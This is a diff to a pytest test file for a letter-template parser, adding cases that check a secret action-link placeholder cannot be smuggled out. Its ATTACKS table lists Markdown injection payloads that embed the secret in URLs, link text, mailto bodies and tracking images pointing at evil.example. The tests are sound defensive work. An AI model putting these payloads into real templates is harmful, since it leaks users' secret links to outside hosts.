@@ -81,7 +81,8 @@ def test_half_a_placeholder_is_refused(half: str) -> None:
     [
         f"{GOOD}\n{BUTTON}\n",
         GOOD.replace(BUTTON, "Open [it]({{ action_link }}) now"),
-        GOOD.replace(BUTTON, "Open it: {{ action_link }}"),
+        GOOD + "\nOr open [it]({{ action_link }}) here",
+        GOOD + "\nOr open [it](action:link) here",
         GOOD.replace(BUTTON, f"- {BUTTON}"),
         GOOD.replace(BUTTON, f"\\{BUTTON}"),
     ],
@@ -179,7 +180,22 @@ ATTACKS = {
     "secret to a foreign host": ("[x](https://evil.example/?{{action_link}})", "link"),
     "secret to a foreign host, in brackets": ("[x](<https://evil.example/?{{ action_link }}>)", "link"),
     "secret in a mail": ("[x](<mailto:eve@evil.example?body={{ action_link }}>)", "link"),
-    "secret in a title": ("[x](https://evil.example/ '{{ action_link }}')", ""),
+    "secret in a title": ("[x](https://evil.example/ '{{ action_link }}')", "link_in_words"),
+    "secret behind an address": ("https://evil.example/?t={{ action_link }}", "link_in_words"),
+    "secret behind an address, set apart": ("https://evil.example/?t=**{{action_link}}**", "link_in_words"),
+    "secret behind an address, in a list": ("- https://evil.example/{{ action_link }}", "link_in_words"),
+    "secret behind an address, in a heading": ("# https://evil.example/{{ action_link }}", "link_in_words"),
+    "secret behind an address, quoted": ("> https://evil.example/{{ action_link }}", "link_in_words"),
+    "secret before an address": ("{{ action_link }}@evil.example", "link_in_words"),
+    "secret in the words of a link": ("[{{ action_link }}](https://evil.example/)", "link_in_words"),
+    "secret in the words of a button": (
+        "[https://evil.example/{{ action_link }}]({{ action_link }})",
+        "link_in_words",
+    ),
+    "secret as a link with a title": ("https://evil.example/[x]({{ action_link }} 'x')", "link_in_words"),
+    "secret as a line of its own": ("{{ action_link }}", "link_in_words"),
+    "secret behind an address, as a link": ("https://evil.example/?t=[]({{ action_link }})", "button"),
+    "secret behind an address, by its inner name": ("https://evil.example/?t=[](action:link)", "button"),
     "half a secret": ("[x](https://evil.example/%7B%7Baction_link%7D%7D)", "link"),
     "remote image": ("![x](https://evil.example/pixel.gif)", "image"),
     "remote image in a link": ("[![x](https://evil.example/p.gif)](https://evil.example/)", "image"),
@@ -215,6 +231,22 @@ def test_an_attack_that_is_taken_stays_words(attack: str) -> None:
     addresses = [link["href"] for link in outline.find("a")]
     assert set(addresses) <= {words["action_link"], "https://evil.example/"}
     assert not re.search("[\u202a-\u202e]", written)
+
+
+@pytest.mark.parametrize("kind", KINDS)
+@pytest.mark.parametrize("mark", ["", "**", "- ", "> ", "# "])
+def test_in_no_kind_does_the_text_lead_the_link_elsewhere(kind: str, mark: str) -> None:
+    body = f"{mark}https://evil.example/?t={{{{ action_link }}}}\n\n{BUTTON}"
+    with pytest.raises(LetterTextError, match="button and nowhere else"):
+        parse_text(find_kind(kind), "Subject", body)
+
+
+def test_words_that_only_look_like_the_link_are_not_filled_in() -> None:
+    body = f"https://evil.example/?t=\\]({{{{ action_link }}}}) https://evil.example/\\{{ action_link }}\n\n{BUTTON}"
+    words = {"name": "Anna", "action_link": "https://meterkeys.example/secret"}
+    text = parse(body=body)
+    for written in (HtmlWriter(words).write(text.body), TextWriter(words).write(text.body)):
+        assert written.count("meterkeys.example") == 1
 
 
 @pytest.mark.parametrize(
